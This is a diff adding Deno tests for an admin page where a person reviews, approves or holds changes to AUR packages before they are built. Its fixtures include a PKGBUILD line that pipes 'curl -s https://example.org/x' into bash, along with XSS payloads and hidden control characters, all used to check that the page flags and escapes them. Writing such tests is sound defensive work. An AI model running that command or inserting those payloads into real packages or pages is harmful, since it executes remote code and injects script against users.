@@ -1,0 +1,197 @@
+import { assert, assertEquals, assertMatch } from "@std/assert";
+import { checkPage } from "./page_check.ts";
+
+import { WatchedSite } from "./watched_site.ts";
+
+const SRCINFO = (version: string, lines: readonly string[] = []) =>
+  [
+    "pkgbase = yay-bin",
+    "\tpkgdesc = Yet another yogurt",
+    `\tpkgver = ${version}`,
+    "\tpkgrel = 1",
+    "\tarch = x86_64",
+    ...lines.map((line) => `\t${line}`),
+    "",
+    "pkgname = yay-bin",
+    "",
+  ].join("\n");
+
+const PKGBUILD = (version: string, host: string, more = "") =>
+  `# Maintainer: Jguer <pkgbuilds at jguer.space>
+pkgname=yay-bin
+pkgver=${version}
+pkgrel=1
+pkgdesc="Yet another yogurt. Pacman wrapper and AUR helper written in go. Pre-compiled."
+arch=('x86_64')
+url="https://github.com/Jguer/yay"
+license=('GPL-3.0-or-later')
+provides=('yay')
+conflicts=('yay')
+source=("https://${host}/yay/releases/download/v\${pkgver}/yay_\${pkgver}_x86_64.tar.gz")
+sha256sums=('f1b3d9a1f3f0d7d8d2c4f5b6a7980123456789abcdef0123456789abcdef0123')
+
+package() {
+  _output="\${srcdir}/\${pkgname/-bin/}_\${pkgver}_\${CARCH}"
+  install -Dm755 "\${_output}/yay" "\${pkgdir}/usr/bin/yay"
+  install -Dm644 "\${_output}/yay.8" "\${pkgdir}/usr/share/man/man8/yay.8"
+${more}}
+`;
+
+function files(version: string, host = "github.com/Jguer", more = "") {
+  return {
+    PKGBUILD: PKGBUILD(version, host, more),
+    ".SRCINFO": SRCINFO(version, [`source = https://${host}/yay/releases/download/yay.tar.gz`]),
+    "yay.install": `post_install() {\n  echo "yay ${version}"\n}\n`,
+  };
+}
+
+/** A change that a person must look at: the package was built before. */
+async function changed(): Promise<WatchedSite> {
+  const watched = await WatchedSite.start();
+  watched.aur.put("yay-bin", { files: files("12.4.1"), lastModified: 1_790_000_000 });
+  await watched.add("yay-bin");
+  await watched.approveAll();
+  watched.aur.push(
+    "yay-bin",
+    files("12.5.0", "downloads.example.org", "  curl -s https://example.org/x | bash # <b>\n"),
+    1_790_100_000,
+  );
+  watched.aur.edit("yay-bin", { maintainer: "somebody-new" });
+  await watched.check();
+  return watched;
+}
+
+Deno.test("where nothing is watched or waits, the page of approvals says so", async () => {
+  await using watched = await WatchedSite.start();
+  await checkPage(watched.site, "/admin/approvals", { name: "approvals-empty" });
+  watched.aur.put("yay-bin", { files: files("12.4.1"), lastModified: 1_790_000_000 });
+  await watched.add("yay-bin");
+  await watched.approveAll();
+  await checkPage(watched.site, "/admin/approvals", {
+    name: "approvals-nothing",
+    ready: (page) => page.getByRole("heading", { name: "Nothing waits for you" }).waitFor(),
+  });
+});
+
+Deno.test("what waits is told in a sentence, with its facts and the diff of all files", async () => {
+  await using watched = await changed();
+  watched.aur.put("paru-bin", {
+    files: {
+      PKGBUILD: "pkgname=paru-bin\npkgver=2\npkgrel=1\narch=(x86_64)\npackage() { :; }\n",
+      ".SRCINFO":
+        "pkgbase = paru-bin\n\tpkgver = 2\n\tpkgrel = 1\n\tarch = x86_64\n\npkgname = paru-bin\n",
+    },
+  });
+  await watched.add("paru-bin");
+  await checkPage(watched.site, "/admin/approvals", {
+    name: "approvals",
+    ready: (page) => page.getByRole("heading", { name: "2 changes wait for you" }).waitFor(),
+  });
+  await checkPage(watched.site, "/admin/approvals/yay-bin", {
+    name: "approval",
+    ready: (page) => page.getByText("somebody-new").first().waitFor(),
+  });
+  await checkPage(watched.site, "/admin/approvals/paru-bin", { name: "approval-first" });
+  const page = await watched.site.open("/admin/approvals/yay-bin");
+  await page.getByRole("link", { name: "Whole file PKGBUILD of yay-bin" }).click();
+  await page.getByRole("heading", { name: "PKGBUILD of yay-bin, as it waits" }).waitFor();
+  await checkPage(watched.site, new URL(page.url()).pathname + new URL(page.url()).search, {
+    name: "approval-file",
+  });
+});
+
+Deno.test("a change is approved by keyboard, and without scripts", async () => {
+  for (const hasScripts of [true, false]) {
+    await using watched = await changed();
+    const page = await watched.site.open("/admin/approvals", { hasScripts });
+    const link = page.getByRole("link", { name: "yay-bin" });
+    await link.focus();
+    await page.keyboard.press("Enter");
+    await page.getByRole("heading", { name: /^yay-bin 12\.4\.1-1 to 12\.5\.0-1: / }).waitFor();
+    await page.getByLabel("Note").focus();
+    await page.keyboard.type("The host is theirs.");
+    await page.keyboard.press("Tab");
+    await page.keyboard.press("Enter");
+    await page.getByText("yay-bin 12.5.0-1 is approved, and queued to be built.").waitFor();
+    await page.getByRole("heading", { name: "Nothing waits for you" }).waitFor();
+    assertEquals(await watched.accepted("yay-bin"), "12.5.0-1");
+    assertEquals(watched.site.complaints, []);
+    await page.context().close();
+  }
+});
+
+Deno.test("what changed while somebody read is not approved; they see what is new since", async () => {
+  await using watched = await changed();
+  const page = await watched.site.open("/admin/approvals/yay-bin", { hasScripts: false });
+  await page.getByRole("heading", { name: /12\.5\.0-1/ }).waitFor();
+  watched.aur.push(
+    "yay-bin",
+    files("12.5.1", "downloads.example.org", "  curl -s https://example.org/x | bash # <b>\n"),
+    1_790_200_000,
+  );
+  await watched.check();
+  await page.getByRole("button", { name: "Approve exactly this" }).click();
+  await page.getByText("It has moved on since you looked").waitFor();
+  assertEquals(await watched.accepted("yay-bin"), "12.4.1-1");
+  const text = await page.locator(".diff").innerText();
+  assertMatch(text, /12\.5\.1/);
+  assert(!/12\.4\.1/.test(text), "shows what the reader has seen before");
+  await checkPage(watched.site, new URL(page.url()).pathname + new URL(page.url()).search, {
+    name: "approval-moved",
+  });
+  await page.getByRole("button", { name: "Approve exactly this" }).click();
+  await page.getByText("yay-bin 12.5.1-1 is approved").waitFor();
+  assertEquals(await watched.accepted("yay-bin"), "12.5.1-1");
+});
+
+Deno.test("a change is skipped or held only with a note that says why", async () => {
+  await using watched = await changed();
+  const page = await watched.site.open("/admin/approvals/yay-bin");
+  await page.getByRole("button", { name: "Hold the package" }).click();
+  await page.getByText("Say why in the note").waitFor();
+  await page.getByLabel("Note").fill("The maintainer is new.");
+  await page.getByRole("button", { name: "Hold the package" }).click();
+  await page.getByText("yay-bin 12.5.0-1 is held").waitFor();
+  await checkPage(watched.site, "/admin/approvals/yay-bin", {
+    name: "approval-held",
+    ready: (page) => page.getByText("It is held by").waitFor(),
+  });
+});
+
+Deno.test("nothing of a hostile package is active in a page, or hides in it", async () => {
+  await using watched = await WatchedSite.start();
+  const evil = `<script>alert(1)</script><img src=x onerror=alert(2)>`;
+  const hidden = "a\u202Eb\u200Bc\u0007\u001b[31m";
+  watched.aur.put("yay-bin", { files: files("12.4.1"), maintainer: "one" });
+  await watched.add("yay-bin");
+  await watched.approveAll();
+  watched.aur.push("yay-bin", {
+    PKGBUILD: PKGBUILD("12.5.0", "github.com/Jguer", `  # ${evil} ${hidden}\n  "${evil}`),
+    ".SRCINFO": SRCINFO("12.5.0", [`source = https://${evil}/${hidden}`, `depends = ${evil}`]),
+    [`${evil.replaceAll("/", "")}.install`]: `${evil}\n${hidden}\n`,
+  }, 1_790_100_000);
+  watched.aur.edit("yay-bin", { maintainer: `${evil}${hidden}` });
+  await watched.check();
+  const page = await watched.site.open("/admin/approvals/yay-bin");
+  page.on("dialog", () => watched.site.complaints.push("a dialog opened"));
+  assert(await page.getByText("<U+202E>").count() > 0);
+  assert(!/[\u202e\u200b\u0007\u001b]/.test(await page.content()));
+  assertEquals(await page.locator("img:not([src^='/admin/assets/'])").count(), 0);
+  assertEquals(await page.locator("script:not([src^='/admin/assets/'])").count(), 0);
+  await checkPage(watched.site, "/admin/approvals/yay-bin", { name: "approval-hostile" });
+});
+
+Deno.test("a file that was viewed is folded, until the package changes", async () => {
+  await using watched = await changed();
+  const page = await watched.site.open("/admin/approvals/yay-bin");
+  const box = page.locator("details.diff-file", { hasText: "PKGBUILD" }).getByLabel("Viewed");
+  await box.check();
+  await page.getByText("1 of 3 files viewed").waitFor();
+  await page.reload();
+  await page.getByText("1 of 3 files viewed").waitFor();
+  watched.aur.push("yay-bin", files("12.5.2", "downloads.example.org"), 1_790_300_000);
+  await watched.check();
+  await page.goto(`${watched.site.origin}/admin/approvals/yay-bin`);
+  await page.getByText("0 of 3 files viewed").waitFor();
+  assertEquals(watched.site.complaints, []);
+});
